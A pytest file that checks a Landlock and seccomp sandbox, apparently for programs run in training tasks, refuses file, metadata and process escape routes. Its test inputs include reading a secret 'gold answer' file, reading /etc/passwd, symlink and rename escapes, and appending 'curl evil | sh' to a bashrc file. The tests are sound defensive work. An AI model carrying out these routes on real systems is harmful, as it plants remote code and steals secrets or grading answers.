"""The kernel layers alone, with no audit hook: every file route is refused by the kernel itself, as root and as an
ordinary user, so nothing rests on a guard that the program could rewrite.

The secret and the targets outside scratch belong to the user the program runs as (nobody, when the tests run as
root: the child drops to it), so file permissions alone would let it read and write them: only Landlock stops it.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from ppo.tasks import sandbox_kernel as kernel

# Outside every scratch folder; one per test process, so that two test runs on one machine do not meet.
ROOT = Path(tempfile.gettempdir()) / f"ppo-sandbox-outside-{os.getpid()}"
SHM = f"/dev/shm/ppo-sandbox-test-{os.getpid()}"
SECRET = ROOT / "secret.txt"
HOME_FILE = ROOT / "bashrc"  # a file the user owns and may append to
SECRET_TEXT = "the gold answer is 42"
SYSTEM_PYTHON = "/usr/bin/python3"  # readable by nobody, unlike a Python under /root
NEEDS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="switching to nobody needs root")

# Each route: statements, the last an expression whose value would leak (or prove a write) if it were allowed.
ROUTES = {
    "open": [f"open({str(SECRET)!r}).read()"],
    "os.open": [f"os.read(os.open({str(SECRET)!r}, os.O_RDONLY), 100)"],
    "io.open": [f"io.open({str(SECRET)!r}).read()"],
    "pathlib": [f"pathlib.Path({str(SECRET)!r}).read_text()"],
    "relative ..": [f"open('../../../../../../..' + {str(SECRET)!r}).read()"],
    "chdir then relative": ["os.chdir('/')", f"open({str(SECRET)[1:]!r}).read()"],
    "dir_fd": [f"os.read(os.open('secret.txt', os.O_RDONLY, dir_fd=os.open({str(ROOT)!r}, os.O_RDONLY)), 100)"],
    "listdir": [f"os.listdir({str(ROOT)!r})"],
    "symlink in scratch": [f"os.symlink({str(SECRET)!r}, 'link')", "open('link').read()"],
    "hard link into scratch": [f"os.link({str(SECRET)!r}, 'hard')", "open('hard').read()"],
    "rename into scratch": [f"os.rename({str(SECRET)!r}, 'moved')", "open('moved').read()"],
    "write outside": [f"open({str(ROOT / 'new.txt')!r}, 'w').write('x')"],
    "append to a home file": [f"open({str(HOME_FILE)!r}, 'a').write('curl evil | sh')"],
    "mkdir outside": [f"os.mkdir({str(ROOT / 'newdir')!r})"],
    "remove outside": [f"os.remove({str(HOME_FILE)!r})"],
    "/dev/shm": [f"open({SHM!r}, 'w').write('x' * 10**6)"],
    "/proc parent cmdline": ["open(f'/proc/{os.getppid()}/cmdline', 'rb').read()"],
    "/proc self": ["open('/proc/self/status').read()"],
    "/etc/passwd": ["open('/etc/passwd').read()"],
}


def make_outside_files() -> None:
    """The secret and a home file, owned by the user that programs run as, and nothing else under ROOT."""
    shutil.rmtree(ROOT, ignore_errors=True)
    Path(SHM).unlink(missing_ok=True)
    ROOT.mkdir(mode=0o755)
    SECRET.write_text(SECRET_TEXT)
    HOME_FILE.write_text("# bashrc\n")
    if os.geteuid() == 0:
        for path in (ROOT, SECRET, HOME_FILE):
            os.chown(path, kernel.NOBODY, kernel.NOBODY)


@pytest.fixture(autouse=True)
def outside_files():
    make_outside_files()
    yield
    shutil.rmtree(ROOT, ignore_errors=True)
    Path(SHM).unlink(missing_ok=True)


def left_alone() -> bool:
    """Nothing outside scratch was read into being, written, made, moved or removed."""
    return (
        sorted(p.name for p in ROOT.iterdir()) == ["bashrc", "secret.txt"]
        and SECRET.read_text() == SECRET_TEXT
        and HOME_FILE.read_text() == "# bashrc\n"
        and not os.path.exists(SHM)
    )


def run_layer(setup: str, attempt: str, as_nobody: bool = False) -> str:
    """In a fresh interpreter with cwd in a new scratch folder: the modules a route uses, then `setup` (kernel
    layers only, no audit hook), then the attempt. -> 'REFUSED errno', or 'ALLOWED' and what it got."""
    scratch = tempfile.mkdtemp()
    folder = tempfile.mkdtemp()  # a copy of the kernel module that nobody can read
    shutil.copy(kernel.__file__, folder)
    os.chmod(folder, 0o755)
    if as_nobody or os.geteuid() == 0:
        os.chown(scratch, kernel.NOBODY, kernel.NOBODY)
    code = (
        f"import fcntl, io, os, pathlib, sys; sys.path.insert(0, {folder!r}); import sandbox_kernel as k\n"
        f"{setup}\ntry:\n    got = ({attempt})\n    print('ALLOWED', repr(got)[:200])\n"
        f"except OSError as e:\n    print('REFUSED', e.errno)"
    )
    python, user = (SYSTEM_PYTHON, kernel.NOBODY) if as_nobody else (sys.executable, None)
    try:
        out = subprocess.run(
            [python, "-I", "-S", "-c", code],
            capture_output=True,
            text=True,
            timeout=30,
            cwd=scratch,
            user=user,
            group=user,
            extra_groups=[] if user else None,
        )
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
        shutil.rmtree(folder, ignore_errors=True)
    return out.stdout.strip() or out.stderr[-500:]


def one_line(statements: list[str]) -> str:
    """Statements as one expression (the last one's value), for run_layer's attempt."""
    return "[" + ", ".join(statements) + "][-1]"


CONFINE = "k.confine(os.getcwd(), 10, 1 << 30, 1 << 20)"
# Unconfined, the links and the moves land in scratch: it must then be the program's own, as nobody.
SCRATCH_OF_OUR_OWN = "os.geteuid() == 0 and os.chown('.', k.NOBODY, k.NOBODY)\n"
REFUSALS = {"REFUSED 13", "REFUSED 18"}  # EACCES; EXDEV for a link or rename across


@pytest.mark.parametrize("route", list(ROUTES))
def test_without_the_layers_every_route_is_open_so_the_tests_below_mean_something(route):
    assert run_layer(SCRATCH_OF_OUR_OWN + "k.drop_privileges()", one_line(ROUTES[route])).startswith("ALLOWED")


@pytest.mark.skipif(kernel.landlock_abi() < 1, reason="this kernel has no Landlock")
@pytest.mark.parametrize("route", list(ROUTES))
def test_the_kernel_layers_alone_refuse_every_file_route(route):
    assert run_layer(CONFINE, one_line(ROUTES[route])) in REFUSALS
    assert left_alone()


@NEEDS_ROOT
@pytest.mark.skipif(not os.path.exists(SYSTEM_PYTHON), reason=f"needs {SYSTEM_PYTHON} to run as nobody")
@pytest.mark.skipif(kernel.landlock_abi() < 1, reason="this kernel has no Landlock")
@pytest.mark.parametrize("route", list(ROUTES))
def test_an_ordinary_user_is_confined_too(route):
    """Started as nobody, the child keeps its uid (nothing to drop): the files are its own, only Landlock holds."""
    assert run_layer("k.drop_privileges()", one_line(ROUTES[route]), as_nobody=True).startswith("ALLOWED")
    make_outside_files()  # undo what the unconfined run did
    assert run_layer(CONFINE, one_line(ROUTES[route]), as_nobody=True) in REFUSALS
    assert left_alone()


# Beyond opening files: what Landlock does not cover, seccomp refuses (EPERM), and what a program could do to
# another process of its uid (a sibling program, or the trainer when it is not root).
METADATA_AND_NEIGHBOURS = {
    "xattr outside": f"os.setxattr({str(SECRET)!r}, 'user.pwned', b'x')",
    "times outside": f"os.utime({str(SECRET)!r}, (1, 1))",
    "mode outside": f"os.chmod({str(SECRET)!r}, 0o777)",
    "owner outside": f"os.chown({str(SECRET)!r}, os.getuid(), os.getgid())",
    # on its own pid: the same calls reach any process of its uid (a sibling, or a trainer that is not root)
    "limits of a process": "__import__('resource').prlimit(os.getpid(), 7, (30, 30))",  # RLIMIT_NOFILE
    "priority of a process": "os.setpriority(os.PRIO_PROCESS, os.getpid(), 19)",
    "affinity of a process": "os.sched_setaffinity(os.getpid(), {0})",
    "SysV shared memory": "raw('shmget', 0, 4096, 0o1666)",  # IPC_PRIVATE
    "lock a file": "__import__('fcntl').flock(os.open('.', os.O_RDONLY), 2)",  # a channel, if shared
    "watch files": "raw('inotify_init1', 0)",
    "memory file": "os.memfd_create('x')",
    "fsync (waits out SIGKILL)": "os.fsync(os.open('.', os.O_RDONLY))",
    "sync (waits out SIGKILL)": "raw('sync')",
    "ioctl on scratch": "raw('ioctl', os.open('.', os.O_RDONLY), 0x80086601, k.ctypes.byref(k.ctypes.c_long()))",
    "truncate a home file": f"os.truncate({str(HOME_FILE)!r}, 0)",  # a Landlock right only from ABI 3
}
# A raw system call by name, for the calls Python does not wrap or whose errors it hides (sync returns void).
RAW = (
    "def raw(name, *args):\n    nr = {**k.SYSCALLS, **k.FILE_SYSCALLS}[name][k.AUDIT_ARCH[os.uname().machine][1]]\n"
    "    r = k.libc().syscall(nr, *args)\n    if r < 0:\n        raise OSError(k.ctypes.get_errno(), name)\n"
    "    return r\n"
)


def test_without_a_layer_metadata_and_neighbours_are_reachable_so_the_test_below_means_something():
    for name in METADATA_AND_NEIGHBOURS:
        assert run_layer(RAW + "k.drop_privileges()", METADATA_AND_NEIGHBOURS[name]).startswith("ALLOWED"), name
        make_outside_files()


@pytest.mark.parametrize("name", list(METADATA_AND_NEIGHBOURS))
def test_seccomp_refuses_metadata_changes_and_reaching_other_processes(name):
    assert run_layer(RAW + CONFINE, METADATA_AND_NEIGHBOURS[name]) == "REFUSED 1"
    assert left_alone() and os.stat(SECRET).st_mtime > 1


def test_nothing_can_be_made_in_scratch_either():
    for attempt in ("open('note', 'w')", "os.mkdir('a')", "os.symlink('/etc/passwd', 'link')", "os.mkfifo('f')"):
        assert run_layer(CONFINE, attempt) in REFUSALS, attempt


@pytest.mark.parametrize("route", ["open", "listdir", "write outside", "mkdir outside", "symlink in scratch"])
def test_without_landlock_the_file_filter_refuses_every_file_call(route):
    setup = "k.drop_privileges(); assert k.install_seccomp(k.FILE_SYSCALLS)"
    assert run_layer(setup, one_line(ROUTES[route])) == "REFUSED 1"  # EPERM from seccomp
    assert left_alone()


@pytest.mark.parametrize(
    "attempt",
    [
        "os.waitpid(os.fork(), 0) if True else 0",
        "__import__('socket').socket()",
        "os.kill(os.getppid(), 0)",
        "os.execv('/bin/true', ['true'])",
    ],
)
def test_the_seccomp_layer_alone_refuses_processes_sockets_and_signals(attempt):
    assert run_layer("assert k.install_seccomp(k.SYSCALLS)", attempt) == "REFUSED 1"  # EPERM, not Python's


@NEEDS_ROOT
def test_the_privilege_layer_alone_stops_writes_to_root_owned_places():
    assert run_layer("k.drop_privileges()", f"open({os.path.expanduser('~/pwned')!r}, 'w')") == "REFUSED 13"


def inherited_filters() -> int:
    """The seccomp filters this test process already runs under (a container's), which every child inherits."""
    with open("/proc/self/status") as status:
        return int(next(line.split()[1] for line in status if line.startswith("Seccomp_filters:")))


def test_a_confined_process_shows_its_layers_in_proc_where_the_parent_reads_them():
    """no_new_privs and the seccomp filters: one with Landlock, two without (the parent's `expected_filters`)."""
    want = inherited_filters() + kernel.expected_filters(kernel.landlock_abi() > 0)
    fields = "[l for l in s.read().splitlines() if l.startswith(('NoNewPrivs', 'Seccomp'))]"
    got = run_layer(f"s = open('/proc/self/status'); {CONFINE}", fields)  # opened before: still readable
    assert got == "ALLOWED " + repr(["NoNewPrivs:\t1", "Seccomp:\t2", f"Seccomp_filters:\t{want}"])
    assert kernel.expected_filters(True) == 1 and kernel.expected_filters(False) == 2


def test_where_landlock_fails_confine_falls_back_to_the_file_filter_and_the_count_says_so():
    no_landlock = "k.install_landlock = lambda scratch: False; " + CONFINE
    assert run_layer(no_landlock, one_line(ROUTES["open"])) == "REFUSED 1"  # seccomp's EPERM
    assert run_layer(no_landlock, "open('in-scratch', 'w')") == "REFUSED 1"  # no files at all
    fields = "[l for l in s.read().splitlines() if l.startswith('Seccomp_filters')]"
    want = inherited_filters() + 2
    assert (
        run_layer(f"s = open('/proc/self/status'); {no_landlock}", fields) == f"ALLOWED ['Seccomp_filters:\\t{want}']"
    )
    assert left_alone()
